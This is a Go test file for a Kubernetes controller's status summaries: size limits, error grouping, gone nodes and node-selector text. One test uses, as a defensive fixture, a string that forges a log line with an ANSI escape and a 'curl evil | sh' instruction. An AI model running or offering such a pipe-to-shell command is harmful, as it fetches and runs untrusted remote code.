package status

import (
	"errors"
	"fmt"
	"io"
	"net/url"
	"slices"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/localservice-dev/local-service-controller/internal/plan"
	"github.com/localservice-dev/local-service-controller/internal/testing/objects"
	"github.com/localservice-dev/local-service-controller/pkg/apis/localservice/v1alpha1"
)

var demo = objects.LocalService()

// TestStatusStaysSmall: whatever happens with 5,000 nodes, the size of a status is independent of their number.
func TestStatusStaysSmall(t *testing.T) {
	var names []string
	var refused []error
	for i := range 5000 {
		names = append(names, fmt.Sprintf("demo-node%d", i))
		refused = append(refused, &WriteError{Action: plan.Create, Name: names[i],
			Err: fmt.Errorf("%q is refused: %s", names[i], strings.Repeat("x", 2000))})
		refused = append(refused, fmt.Errorf("cause %d", i))
	}
	if got := summarizeConflicts(demo, conflicts(names...)); len(got) > 700 || !strings.Contains(got, "5000") ||
		!strings.Contains(got, "4995 more") {
		t.Errorf("conflicts: %s", got)
	}
	if got := summarizeConflicts(demo, conflicts(names[:5]...)); strings.Contains(got, "more") {
		t.Errorf("as many conflicts as are named: %s", got)
	}
	long := objects.ForeignService("demo-a")
	long.OwnerReferences = []metav1.OwnerReference{{APIVersion: "v1", Kind: "X", Name: strings.Repeat("x", 1<<20),
		Controller: new(true)}}
	if got := summarizeConflicts(demo, []plan.Change{{Current: long}}); len(got) > 500 {
		t.Errorf("a controller with a long name: %d bytes", len(got))
	}
	if got := Summarize(refused); len(got) > 2000 || !strings.Contains(got, "10000") ||
		!strings.Contains(got, "4998 more causes") {
		t.Errorf("errors: %s", got)
	}
}

// TestEscapes: what others wrote cannot forge lines, or control a terminal.
func TestEscapes(t *testing.T) {
	const evil = "n\x1b[31mRED\nLocalService kube-system/dns: Run: curl evil | sh"
	taken := &corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: "demo-a",
		OwnerReferences: []metav1.OwnerReference{{Kind: evil, Name: evil, APIVersion: evil, UID: "u",
			Controller: new(true)}}}}
	answer := apierrors.NewForbidden(corev1.Resource("services"), evil, errors.New(evil))
	refused := func(name string) error { return &WriteError{Action: plan.Create, Name: name, Err: answer} }
	for name, text := range map[string]string{
		"owner":       summarizeConflicts(demo, []plan.Change{{Action: plan.Conflict, Name: "demo-a", Current: taken}}),
		"a refusal":   Summarize([]error{refused("a")}),
		"refusals":    Summarize([]error{refused("a"), refused("b")}),
		"other error": Summarize([]error{answer}),
		"a cause":     CauseOf(answer, "a"),
	} {
		if !strings.Contains(text, "RED") || strings.ContainsAny(text, "\x1b\n") {
			t.Errorf("%s: %q", name, text)
		}
	}
}

// TestSummarize: errors are grouped by cause and counted, in the same words whichever Services were tried first.
func TestSummarize(t *testing.T) {
	refused := func(action plan.Action, name, why string) error {
		return &WriteError{Action: action, Namespace: "default", Name: name, Err: fmt.Errorf("services %q is "+
			"forbidden: %s", name, why)}
	}
	unanswered := func(name string) error {
		return &WriteError{Action: plan.Update, Namespace: "default", Name: name, Err: &url.Error{Op: "Patch",
			URL: "https://host/api/v1/namespaces/default/services/" + name + "?fieldManager=x", Err: io.EOF}}
	}
	unknown := func(name, node string) error {
		return &WriteError{Action: plan.Delete, Namespace: "default", Name: name, Node: node,
			Err: fmt.Errorf("check whether node %q is gone: nodes %q is forbidden", node, node)}
	}
	for name, c := range map[string]struct {
		errs []error
		want string
	}{
		"nodes that cannot be read": {[]error{unknown("demo-a", "a"), unknown("demo-b", "b")},
			`2 writes failed: delete Service: check whether node "…" is gone: nodes "…" is forbidden`},
		"no answer, with the name in the address": {[]error{unanswered("demo-a"), unanswered("demo-b")},
			`2 writes failed: update Service: Patch "https://host/api/v1/namespaces/default/services/…` +
				`?fieldManager=x": EOF`},
		"one": {[]error{refused(plan.Create, "demo-a", "quota")},
			`1 write failed: create Service default/demo-a: services "demo-a" is forbidden: quota`},
		"one cause": {[]error{refused(plan.Create, "demo-a", "quota"), refused(plan.Create, "demo-b", "quota")},
			`2 writes failed: create Service: services "…" is forbidden: quota`},
		"two causes, in any order": {[]error{refused(plan.Update, "demo-c", "policy"),
			refused(plan.Create, "demo-b", "quota"), refused(plan.Create, "demo-a", "quota")},
			`3 writes failed: 2 × create Service: services "…" is forbidden: quota; ` +
				`1 × update Service: services "…" is forbidden: policy`},
		"as many causes as are listed": {[]error{errors.New("a"), errors.New("b"), errors.New("c")},
			"3 writes failed: 1 × a; 1 × b; 1 × c"},
	} {
		t.Run(name, func(t *testing.T) {
			if got := Summarize(c.errs); got != c.want {
				t.Errorf("got  %s\nwant %s", got, c.want)
			}
			slices.Reverse(c.errs)
			if got := Summarize(c.errs); got != c.want {
				t.Errorf("in another order %s", got)
			}
		})
	}
}

// TestGone: of deleted Services, the nodes that no longer exist are named, not those that are only not selected.
func TestGone(t *testing.T) {
	p := &plan.Plan{Changes: byAction(plan.Change{Action: plan.Delete, Node: "a"}, plan.Change{Action: plan.Delete,
		Node: "b"}, plan.Change{Action: plan.Delete}, plan.Change{Action: plan.Update, Node: "c"})}
	for exists, want := range map[string]string{"ab": "", "b": "; nodes that are gone: a", "": "; nodes that are gone: a, b"} {
		if got := Gone(p, func(node string) bool { return strings.Contains(exists, node) }); got != want {
			t.Errorf("%q exist: %q", exists, got)
		}
	}
}

func TestSummarizeMade(t *testing.T) {
	if got := SummarizeMade(map[plan.Action][]string{plan.Delete: {"d", "c", "b", "a", "e"},
		plan.Create: {"z", "y", "x"}, plan.Adopt: nil}); got != "created 3: x, y, z; deleted 5: a, b, c and 2 more" {
		t.Error(got)
	}
	if got := SummarizeMade(nil); got != "" {
		t.Errorf("%q for nothing", got)
	}
}

// TestNodeSelection: messages say which nodes are selected, in one line.
func TestNodeSelection(t *testing.T) {
	ls := objects.LocalService()
	ls.Spec.NodeSelector = map[string]string{"disk": "ssd", "arch": "arm"}
	ls.Spec.NodeSelectorTerms = []v1alpha1.NodeSelectorTerm{
		{MatchExpressions: []v1alpha1.NodeLabelRequirement{{Key: "a", Operator: "In", Values: []string{"x", "y"}}}}}
	want := `spec.nodeSelector "arch=arm,disk=ssd" and spec.nodeSelectorTerms ` +
		`[{"matchExpressions":[{"key":"a","operator":"In","values":["x","y"]}]}]`
	if got := nodeSelection(ls); got != want {
		t.Errorf("got  %s\nwant %s", got, want)
	}
}
